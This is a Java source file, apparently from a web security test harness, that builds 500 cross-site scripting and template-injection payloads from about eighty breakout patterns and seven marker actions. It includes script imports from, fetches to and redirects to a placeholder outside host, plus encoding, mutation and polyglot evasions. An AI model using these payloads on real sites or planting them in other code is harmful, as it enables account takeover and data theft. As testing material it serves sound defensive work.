package ir.rasteh.journeys;

import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

/**
 * Five hundred texts that are scripts, should a page take them for more than text: each of some eighty ways to break out of a text,
 * with each of seven things to do outside. What they do is seen by whoever watches the browser: {@link #HOOK} is called, a window
 * opens, an address at {@link #ELSEWHERE} is asked for, or an element {@code x-rasteh} stands in the page.
 */
final class Payloads {

    static final int COUNT = 500;
    static final String HOOK = "rastehRan";
    static final String ELSEWHERE = "elsewhere.invalid";

    /** What a template or an expression would make of {@code 1337*7331}. */
    static final String RECKONED = "9801547";

    private static final List<String> DEEDS = List.of(
            HOOK + "(1)",
            "alert(1)",
            "window['rasteh'+'Ran'](1)",
            "fetch('//" + ELSEWHERE + "/')",
            "import('//" + ELSEWHERE + "/x.js')",
            "document.body.append(document.createElement('x-rasteh'))",
            "location='//" + ELSEWHERE + "/'");

    /** {@code JS} stands for what is to be done. */
    private static final List<String> WAYS = Stream.of(
                    // Tags
                    "<script>JS</script>",
                    "<ScRiPt >JS</sCrIpT\n>",
                    "<script/x>JS</script>",
                    "<script src=//" + ELSEWHERE + "/x.js></script>",
                    "<img src=x onerror=JS>",
                    "<img src=x oNeRrOr = \"JS\"//",
                    "<IMG \"\"\"><SCRIPT>JS</SCRIPT>\">",
                    "<svg onload=JS>",
                    "<svg/onload=JS//",
                    "<svg><script>JS</script></svg>",
                    "<svg><animate onbegin=JS attributeName=x dur=1s>",
                    "<svg><a xlink:href=\"javascript:JS\"><text y=20>x</text></a></svg>",
                    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>JS</script></svg>#x\"/></svg>",
                    "<body onload=JS>",
                    "<iframe srcdoc=\"<script>parent.JS</script>\"></iframe>",
                    "<iframe src=\"javascript:parent.JS\"></iframe>",
                    "<object data=\"javascript:JS\"></object>",
                    "<embed src=\"//" + ELSEWHERE + "/x.swf\">",
                    "<details open ontoggle=JS><summary>x</summary></details>",
                    "<video><source onerror=JS></video>",
                    "<audio src=x onerror=JS></audio>",
                    "<input autofocus onfocus=JS>",
                    "<select autofocus onfocus=JS></select>",
                    "<marquee onstart=JS>x</marquee>",
                    "<a href=\"javascript:JS\">x</a>",
                    "<form action=\"javascript:JS\"><button autofocus onfocus=JS>x</button></form>",
                    "<meta http-equiv=refresh content=\"0;url=javascript:JS\">",
                    "<base href=//" + ELSEWHERE + "/>",
                    "<link rel=stylesheet href=//" + ELSEWHERE + "/x.css>",
                    "<style>@import '//" + ELSEWHERE + "/x.css';</style>",
                    "<img src=//" + ELSEWHERE + "/x.png>",
                    "<x-rasteh onclick=JS>x</x-rasteh>",
                    "<template><script>JS</script></template><x-rasteh></x-rasteh>",
                    "<dialog open onclose=JS><form method=dialog><button autofocus>x</button></form></dialog>",
                    "<div popover id=p onbeforetoggle=JS></div><button popovertarget=p autofocus>x</button>",
                    // Out of where a text stands
                    "\"><script>JS</script>",
                    "'><script>JS</script>",
                    "</title><script>JS</script>",
                    "</textarea><script>JS</script>",
                    "</script><script>JS</script>",
                    "</ScRiPt\t><script>JS</script>",
                    "<!--<script></script><script>JS</script>",
                    "--><script>JS</script>",
                    "]]><script>JS</script>",
                    "\" onmouseover=\"JS\" onfocus=\"JS\" autofocus x=\"",
                    "' onmouseover='JS' onfocus='JS' autofocus x='",
                    "` onfocus=JS autofocus ",
                    "x onerror=JS ",
                    "\" style=\"background:url(//" + ELSEWHERE + "/x)\" x=\"",
                    // Addresses
                    "javascript:JS",
                    "JaVaScRiPt:JS",
                    "java\tscript:JS",
                    "\u0001javascript:JS",
                    "javascript://%0aJS",
                    "data:text/html,<script>parent.JS</script>",
                    "//" + ELSEWHERE + "/",
                    "https://" + ELSEWHERE + "/\" onload=\"JS",
                    // Braces of templates
                    "{{constructor.constructor('JS')()}}{{1337*7331}}",
                    "${JS}${1337*7331}",
                    "#{1337*7331}*{1337*7331}@{1337*7331}JS",
                    "[[${1337*7331}]][(${1337*7331})]JS",
                    "__${1337*7331}__::.x JS",
                    "<%= 1337*7331 %><script>JS</script>",
                    "<p th:text=\"${1337*7331}\" onclick=JS>",
                    // Out of scripts and JSON
                    "\";JS;//",
                    "';JS;//",
                    "`;JS;//",
                    "\\\";JS;//",
                    "\\';JS;//",
                    "\u2028JS//",
                    "\u2029JS//",
                    "\"}</script><script>JS</script>{\"",
                    "\\u003cscript\\u003eJS\\u003c/script\\u003e",
                    "\\x3cscript\\x3eJS\\x3c/script\\x3e",
                    // Twice read
                    "&lt;script&gt;JS&lt;/script&gt;",
                    "&#60;img src=x onerror=JS&#62;",
                    "&#x3c;svg onload=JS&#x3e;",
                    "%3Cscript%3EJS%3C/script%3E",
                    "&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;",
                    "\uFF1Cscript\uFF1EJS\uFF1C/script\uFF1E",
                    "<noscript><p title=\"</noscript><img src=x onerror=JS>\">",
                    "<svg><style><img src=x onerror=JS></style></svg>",
                    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=JS></annotation-xml></math>",
                    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=JS&gt;\">",
                    // Styles
                    "expression(JS)",
                    "};*{background:url(//" + ELSEWHERE + "/x)}</style><script>JS</script>",
                    "</style><img src=x onerror=JS>",
                    // Signs that hide or turn
                    "\u202E<script>JS</script>",
                    "\u2066\u2067<img src=x onerror=JS>\u2069",
                    "<scr\u200Bipt>JS</scr\u200Bipt>",
                    "<\u200Cscript>JS</script>",
                    // All at once
                    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=JS )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=JS//>\\x3e",
                    "'\">><marquee><img src=x onerror=JS></marquee></plaintext\\></|\\><plaintext/onmouseover=JS><script>JS</script>",
                    "<!--\" -->--><img src=x onerror=JS><![CDATA[<svg onload=JS>]]>")
            .toList();

    private static final Pattern DEED = Pattern.compile("\\bJS\\b");

    private Payloads() {}

    /** The five hundred, each of its own kind; the first fifth holds each way once. */
    static List<String> all() {
        List<String> all = new ArrayList<>();
        for (int round = 0; round < DEEDS.size(); round++) {
            for (int way = 0; way < WAYS.size(); way++) {
                String deed = DEEDS.get((round + way) % DEEDS.size());
                all.add(DEED.matcher(WAYS.get(way)).replaceAll(match -> Matcher.quoteReplacement(deed)));
            }
        }
        return all.stream().distinct().limit(COUNT).toList();
    }
}
